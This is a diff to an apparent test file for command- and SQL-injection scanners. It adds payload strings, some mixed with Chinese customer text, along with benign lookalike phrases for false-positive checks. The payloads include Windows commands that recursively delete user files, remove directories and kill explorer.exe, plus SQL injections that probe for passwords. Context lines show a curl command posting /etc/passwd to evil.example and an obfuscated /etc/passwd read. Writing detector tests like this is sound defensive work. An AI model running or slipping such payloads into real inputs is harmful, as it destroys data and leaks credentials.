@@ -157,6 +157,13 @@ PAYLOADS: list[tuple[type[MarkupScanner], str]] = [
     (CommandInjectionScanner, "1 && curl -d @/etc/passwd http://evil.example"),
     (CommandInjectionScanner, "$(printf '\\x63\\x61\\x74 /etc/passwd')"),
     (CommandInjectionScanner, "& ping -n 10 127.0.0.1 &"),
+    (CommandInjectionScanner, "备注：放门口 & del /s /q C:\\Users\\*"),
+    (CommandInjectionScanner, "发票抬头 | rmdir /s /q C:\\Windows\\Temp"),
+    (CommandInjectionScanner, "serial 8812 && taskkill /f /im explorer.exe"),
+    (SqlInjectionScanner, "用户名填的 root'# 为啥报错"),
+    (SqlInjectionScanner, "nickname: administrator'/*"),
+    (SqlInjectionScanner, "coupon=SAVE10' OR (SELECT COUNT(*) FROM users)>0 AND 'x'='x"),
+    (SqlInjectionScanner, "PO-77' AND (SELECT MID(password,1,1) FROM staff LIMIT 1)='b"),
 ]
 # Customers' and developers' own text with the same words and characters: no markup scanner fires.
 LOOKALIKES: list[str] = [
@@ -225,6 +232,10 @@ LOOKALIKES: list[str] = [
     "$_GET['order_id'] 拿不到值",
     "what's the sleep 5 timer on the baby monitor?",
     "我想订一间 rm 带窗的 | 价格多少",
+    "the admin -- I mean the shop owner -- said I could return it",
+    "our user's guide says del key resets it & the rd edition is newer",
+    "Windows 装在 C:\\Windows 里，你们的打印软件装哪",
+    "I'll pick option A & rd 3 is fine",
 ]
 
 
